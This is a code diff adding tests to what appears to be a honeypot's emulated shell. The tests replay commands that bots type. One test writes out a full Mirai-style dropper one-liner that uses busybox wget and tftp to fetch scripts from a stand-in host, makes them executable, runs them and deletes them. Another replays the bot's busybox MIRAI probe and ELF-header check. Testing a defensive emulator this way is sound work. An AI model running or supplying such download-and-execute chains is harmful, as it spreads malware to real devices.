@@ -125,3 +125,23 @@ describe('what bots type', () => {
     expect(ran.out).toBe('1000\n')
   })
 })
+
+describe('droppers', () => {
+  it('are recorded whole and fail step by step as on a host behind a filter', async () => {
+    const script =
+      'cd /tmp || cd /var/run || cd /mnt || cd /root || cd /; busybox wget http://198.51.100.7/bins.sh; chmod 777 bins.sh; ./bins.sh; busybox tftp -g -r t.sh 198.51.100.7; rm -rf bins.sh t.sh'
+    const ran = await runCommand(script)
+    expect(ran.commands).toEqual([script])
+    expect(ran.downloads).toEqual(['wget http://198.51.100.7/bins.sh', 'tftp tftp://198.51.100.7/t.sh'])
+    expect(ran.err).toBe(
+      "Connecting to 198.51.100.7:80 (198.51.100.7:80)\nwget: can't connect to remote host (198.51.100.7): Connection timed out\nchmod: cannot access 'bins.sh': No such file or directory\nbash: line 1: ./bins.sh: No such file or directory\ntftp: timeout\n",
+    )
+  })
+  it('get the header of a program by dd or cat', async () => {
+    const ran = await runCommand('/bin/busybox MIRAI; (dd bs=52 count=1 if=/bin/echo || cat /bin/echo) | od -An -tx1 -N 4')
+    expect(ran.err).toBe(
+      'MIRAI: applet not found\n1+0 records in\n1+0 records out\n'.concat(/52 bytes copied.*\n$/.exec(ran.err)?.[0] ?? 'no count'),
+    )
+    expect(ran.out).toBe(' 7f 45 4c 46\n')
+  })
+})
